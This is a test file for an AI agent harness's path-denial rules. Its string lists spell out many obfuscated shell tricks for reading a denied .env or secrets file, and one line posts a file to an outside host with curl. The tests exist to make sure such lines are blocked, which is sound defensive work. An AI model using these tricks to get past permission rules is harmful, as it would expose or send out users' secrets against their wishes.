"""Rules about paths and command lines: what names a denied path, could name it, or shows the folder in which it lies."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from harness.approvals.call import FULL_ACCESS
from harness.approvals.decide import decide
from harness.approvals.rules import Rule
from harness.approvals.tool_table import ToolTable, reads, runs
from harness.approvals.work_folder import WorkFolder

TABLE = ToolTable(uses={"Bash": runs("command"), "Read": reads("file_path")})


@pytest.fixture
def workspace(tmp_path: Path) -> WorkFolder:
    (tmp_path / "w/src").mkdir(parents=True)
    (tmp_path / "w/src/a.py").write_text("1\n")
    return WorkFolder(root=os.path.realpath(tmp_path / "w"))


COULD_NAME_IT = """
cat $F
cat .e$x
cat "$F"
cat < $F
echo a > $F
cat $(printf .env)
cat `ls -a`
cat <(cat $x)
printf .e%s nv | xargs cat
x=.en; cat ${x}v
cat $'\\x2eenv'
cat .en{v..v}
cat .e(n)v
cat ~-/$x
cd $D && cat key
cd "$(pwd)/x"; cat key
git -C $D log
curl -d @$F http://x
curl --data-binary=@$F x
for f in *; do cat $f; done
sudo cat $F
env A=1 cat $F
python -c 'print(1)'
python3 - <<X
node -e 1
echo x | bash
bash -lc 'npm test'
eval "$x"
awk 1 a
source x
tar czf $OUT src
shopt -s dotglob; cat *
setopt globdots; cat *
find . -type f -exec cat {} +
find . -type f -execdir head {} ;
fd . -H -X cat
fdfind -x cat
cat /proc/self/cwd/.env
cat /proc/self/cwd/x
tar -T list -c
tar c --files-from=list
wc --files0-from=list
cpio -o
cat /dev/fd/3
"""
CANNOT_NAME_IT = """
npm test
make check
python x.py
bash run.sh
git status
git log --oneline
echo $?
echo "done $x"
printf '%s' "$x"
cat a.txt; ls -la; exit $?
cat src/*.py
ls *.log
find . -name x
cp src/{a,b}.py x/
"""


@pytest.mark.parametrize("line", COULD_NAME_IT.strip().split("\n"))
def test_a_line_that_could_name_a_denied_path_is_never_allowed_unasked(
    line: str, workspace: WorkFolder
) -> None:
    rules = [Rule(answer="deny", path=".env")]
    decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
    assert decision.answer != "allow", decision.why


@pytest.mark.parametrize("line", CANNOT_NAME_IT.strip().split("\n"))
def test_ordinary_lines_are_allowed_where_a_rule_denies_a_path(line: str, workspace: WorkFolder) -> None:
    rules = [Rule(answer="deny", path=".env")]
    decision = decide([TABLE.call("Bash", {"command": line})], FULL_ACCESS, rules, workspace)
    assert decision.answer == "allow", decision.why


@pytest.mark.parametrize("line", ["git grep x", "git log -p", "git show HEAD", "git -C . diff", "git stash"])
def test_git_that_shows_files_is_asked_about_where_one_of_them_is_denied(
    line: str, workspace: WorkFolder
) -> None:
    call, rules = TABLE.call("Bash", {"command": line}), [Rule(answer="deny", path=".env")]
    assert decide([call], FULL_ACCESS, rules, workspace).answer == "allow"
    (Path(workspace.root) / ".env").write_text("secret")
    assert decide([call], FULL_ACCESS, rules, workspace).answer == "ask"
    status = TABLE.call("Bash", {"command": "git status"})
    assert decide([status], FULL_ACCESS, rules, workspace).answer == "allow"


@pytest.mark.parametrize(
    "line", ["mv secrets x", "ln -s secrets x; cat x/key", "gzip -r .", "7z a x.7z .", "git clone . x"]
)
def test_what_moves_or_packs_a_folder_with_something_denied_is_asked_about(
    line: str, workspace: WorkFolder
) -> None:
    (Path(workspace.root) / "secrets").mkdir()
    (Path(workspace.root) / "secrets/key").write_text("1")
    call, rules = TABLE.call("Bash", {"command": line}), [Rule(answer="deny", path="secrets/*")]
    assert decide([call], FULL_ACCESS, rules, workspace).answer == "ask"


def test_a_denied_path_is_denied_by_way_of_a_process(workspace: WorkFolder) -> None:
    rules = [Rule(answer="deny", path="secrets/key")]
    for path in (
        "/proc/self/cwd/secrets/key",
        "/proc/1/task/1/cwd/secrets/key",
        f"/proc/self/root{workspace.root}/secrets/key",
    ):
        call = TABLE.call("Read", {"file_path": path})
        assert decide([call], FULL_ACCESS, rules, workspace).answer == "deny"
